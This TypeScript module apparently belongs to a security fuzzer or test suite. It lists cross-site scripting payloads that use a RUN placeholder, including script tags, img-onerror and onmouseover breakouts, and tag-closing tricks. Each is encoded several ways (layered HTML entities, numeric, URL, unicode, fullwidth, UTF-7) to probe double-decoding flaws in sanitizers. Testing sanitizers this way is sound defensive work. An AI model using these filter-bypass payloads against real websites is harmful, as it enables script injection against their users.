import { family } from "./payload";

/** Markup as character references, once and twice encoded: harmless until something decodes once too often. */
export const characterReferences = family("character references", 400, [
  "&lt;script&gt;RUN&lt;/script&gt;",
  "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
  "&lt;img src=x onerror=RUN&gt;",
  "&amp;lt;img src=x onerror=RUN&amp;gt;",
  "&amp;amp;lt;img src=x onerror=RUN&amp;amp;gt;",
  "&#60;img src=x onerror=RUN&#62;",
  "&#x3C;img src=x onerror=RUN&#x3E;",
  "&#60img src=x onerror=RUN&#62",
  "&amp;#60;img src=x onerror=RUN&amp;#62;",
  "&LT;img src=x onerror=RUN&GT;",
  "&lt/script&gt&ltimg src=x onerror=RUN&gt",
  "&lt;/script&gt;&lt;img src=x onerror=RUN&gt;",
  "&amp;lt;/script&amp;gt;&amp;lt;img src=x onerror=RUN&amp;gt;",
  "&lt;/title&gt;&lt;/script&gt;&lt;script&gt;RUN&lt;/script&gt;",
  "&quot;&gt;&lt;img src=x onerror=RUN&gt;",
  "&quot; onmouseover=&quot;RUN&quot; x=&quot;",
  "&#34; onmouseover=&#34;RUN&#34;",
  "&apos; onmouseover=&apos;RUN&apos;",
  "%3Cimg%20src=x%20onerror=RUN%3E",
  "\\u003cimg src=x onerror=RUN\\u003e",
  "\\x3cimg src=x onerror=RUN\\x3e",
  "\uFF1Cimg src=x onerror=RUN\uFF1E",
  "+ADw-script+AD4-RUN+ADw-/script+AD4-",
]);
